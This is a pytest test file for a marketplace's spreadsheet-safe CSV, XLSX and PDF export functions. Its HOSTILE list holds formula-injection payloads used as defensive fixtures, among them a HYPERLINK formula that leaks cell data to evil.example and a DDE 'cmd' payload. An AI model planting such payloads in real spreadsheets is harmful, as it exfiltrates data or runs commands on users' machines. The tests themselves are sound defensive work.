"""Exports are spreadsheet-safe: text never becomes a formula, money stays a number."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from marketplace.services.exports import (
    MONEY_FORMAT,
    Column,
    Document,
    Fact,
    Kind,
    Table,
    cell_text,
    money_label,
    safe_text,
    write_csv,
    write_table_csv,
    write_xlsx,
)
from marketplace.services.exports_pdf import write_pdf

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(A1:A9)", "\tTabbed", "\rReturn"]


def document(name: str = HOSTILE[0]) -> Document:
    table = Table("Savings by member",
                  (Column("Member"), Column("Cycles", Kind.COUNT), Column("Charged", Kind.MONEY),
                   Column("Savings", Kind.MONEY), Column("Savings %", Kind.PERCENT), Column("Delivery", Kind.DATE)),
                  [[name, 2, 123456, -1250, Decimal("-1.0"), date(2026, 3, 16)],
                   ["Sunrise & <Kids>", 1, 5, None, None, None]],
                  ["Total", 3, 123461, -1250, None, None])
    return Document(title="Savings", filename="savings", subtitle=name,
                    facts=[Fact("Total", 123461, Kind.MONEY), Fact("Site", name)],
                    tables=[table], notes=["=1+1 is a note", "Plain note"])


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_text_neutralises_every_formula_start(text):
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Milk", "1 gal", "", "Caf\u00e9 = good", "O'Brien"])
def test_safe_text_keeps_ordinary_text(text):
    assert safe_text(text) == text


def test_money_is_numeric_text_and_negative_money_is_not_quoted():
    assert cell_text(123456, Kind.MONEY) == "1234.56"
    assert cell_text(-1250, Kind.MONEY) == "-12.50"
    assert cell_text("-12", Kind.TEXT) == "'-12"
    assert money_label(-1250) == "-$12.50" and money_label(None) == "\u2013"


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "Excel needs the byte-order mark to read UTF-8"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize("name", HOSTILE)
def test_csv_quotes_hostile_names_and_keeps_money_numeric(name):
    rows = read_csv(write_csv(document(name)))
    cells = [cell for row in rows for cell in row]
    assert "'" + name in cells
    assert name not in cells, "the raw formula must not reach the file"
    member_row = next(row for row in rows if len(row) == 6 and row[0] == "'" + name)
    assert member_row[2] == "1234.56" and member_row[3] == "-12.50" and member_row[4] == "-1.0"
    assert member_row[5] == "2026-03-16"
    assert ["'=1+1 is a note"] in rows
    assert ["Total", "1234.61"] in rows


def test_single_table_csv_has_one_header_row():
    table = document().tables[0]
    rows = read_csv(write_table_csv(table))
    assert rows[0] == ["Member", "Cycles", "Charged", "Savings", "Savings %", "Delivery"]
    assert rows[1][0].startswith("'=HYPERLINK") and rows[1][2] == "1234.56"
    assert len(rows) == 3


@pytest.mark.parametrize("name", HOSTILE)
def test_xlsx_text_is_never_a_formula_and_money_is_a_number(name):
    workbook = load_workbook(io.BytesIO(write_xlsx(document(name))))
    assert workbook.sheetnames == ["Summary", "Savings by member"]
    sheet = workbook["Savings by member"]
    stored = "'" + name.replace("\r", "\n")  # XML reads a carriage return back as a line feed
    assert sheet["A2"].value == stored and sheet["A2"].data_type == "s"
    assert sheet["C2"].value == Decimal("1234.56") or sheet["C2"].value == pytest.approx(1234.56)
    assert sheet["C2"].data_type == "n" and sheet["C2"].number_format == MONEY_FORMAT
    assert sheet["D2"].data_type == "n" and sheet["D2"].value == pytest.approx(-12.5)
    assert sheet["E2"].number_format == "0.0%" and sheet["E2"].value == pytest.approx(-0.01)
    assert sheet["B2"].value == 2
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
    summary = workbook["Summary"]
    values = [c.value for row in summary.iter_rows() for c in row if c.value is not None]
    assert stored in values and "'=1+1 is a note" in values


def test_pdf_is_a_pdf_and_survives_markup_in_names():
    data = write_pdf(document("Sunrise <b>& Co</b>"))
    assert data.startswith(b"%PDF-") and len(data) > 1000


def test_wide_tables_go_landscape():
    columns = [Column(f"C{i}", Kind.MONEY) for i in range(8)]
    doc = Document(title="Wide", filename="wide", tables=[Table("T", columns, [[i * 100 for i in range(8)]])])
    assert b"/MediaBox [ 0 0 792 612 ]" in write_pdf(doc)
